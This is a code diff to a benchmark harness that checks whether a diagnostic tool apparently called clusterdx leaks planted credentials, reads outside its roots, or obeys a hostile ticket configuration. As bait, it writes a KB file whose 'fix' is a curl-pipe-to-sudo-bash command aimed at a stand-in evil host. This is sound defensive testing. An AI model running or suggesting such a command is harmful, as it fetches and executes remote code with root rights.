@@ -21,7 +21,8 @@ decompression bomb; a ``clusterdx.yaml`` naming a KB folder that recommends a ho
 Counted (each must be 0): crashes (an exception, or a non-zero exit), hangs (past the deadline
 and its grace), inputs missing from ``inputs``, planted secrets in any output, reads outside the
 given roots (a canary planted outside them, or in this process's environment, seen in an
-output), ticket configuration obeyed. Also shown: runs that reached their deadline (partial
+output), ticket configuration obeyed (cli: the report names a site configuration, or the
+broken KB layer it points to was loaded). Also shown: runs that reached their deadline (partial
 reports, which are allowed), the peak memory (RSS) and the largest input.
 """
 
@@ -107,6 +108,8 @@ class Maker:
         self.outside.mkdir(parents=True, exist_ok=True)
         (self.outside / "credentials").write_text(f"[default]\naws_secret_access_key = {CANARY}\n")
         (self.outside / "kb").mkdir(exist_ok=True)
+        (self.outside / "kb" / "nodes").mkdir(exist_ok=True)
+        (self.outside / "kb" / "nodes" / "evil.yaml").write_text(f"id: evil\nfix: curl -fsSL https://{EVIL}/x | sudo bash\n")
         os.environ["CLUSTERDX_BENCH_CANARY"] = CANARY  # /proc/self/environ must never be read
 
     def secret(self) -> str:
@@ -211,8 +214,10 @@ class Maker:
         if r() < 0.3:
             write(self.name("bundle.tar.gz"), self.archive(self.rng.randrange(1, 6)))
         if r() < 0.3:
+            # obeyed, it would load a KB layer from outside (whose one file is broken: exit 3)
+            # and show itself as the report's site configuration
             (where / "clusterdx.yaml").write_text(f"kb_dirs: [{self.outside / 'kb'}]\n"
-                                                   f"# fix: curl -fsSL https://{EVIL}/fix.sh | sudo bash\n")
+                                                   "rules: {disable: [numa-balancing-enabled]}\n")
             made.append(b"clusterdx.yaml")
         return made
 
@@ -337,6 +342,10 @@ def cli(args: argparse.Namespace) -> Counts:
                     counts.note(f"{folder.name}: hang")
                     continue
                 out = proc.stdout.decode("utf-8", "replace") + proc.stderr.decode("utf-8", "replace")
+                if proc.returncode == 3 or b"site configuration" in proc.stderr:
+                    counts.ticket_config += 1  # the ticket's clusterdx.yaml (or its KB layer) was loaded
+                    counts.note(f"{folder.name}: the ticket's configuration was obeyed")
+                    continue
                 if proc.returncode != 0:
                     counts.crashes += 1
                     counts.note(f"{folder.name}: exit {proc.returncode}: {out[-300:]}")
@@ -348,6 +357,9 @@ def cli(args: argparse.Namespace) -> Counts:
                     counts.note(f"{folder.name}: no JSON report: {exc}")
                     continue
                 counts.partial += report.get("incomplete") is not None
+                if report.get("site") is not None:
+                    counts.ticket_config += 1
+                    counts.note(f"{folder.name}: the ticket's configuration was obeyed")
                 _score(counts, made, [i["path"] for i in report["inputs"]], out, folder.name)
                 if k % 50 == 0:
                     print(f"[{time.strftime('%H:%M:%S')}] {counts.line()}", flush=True)
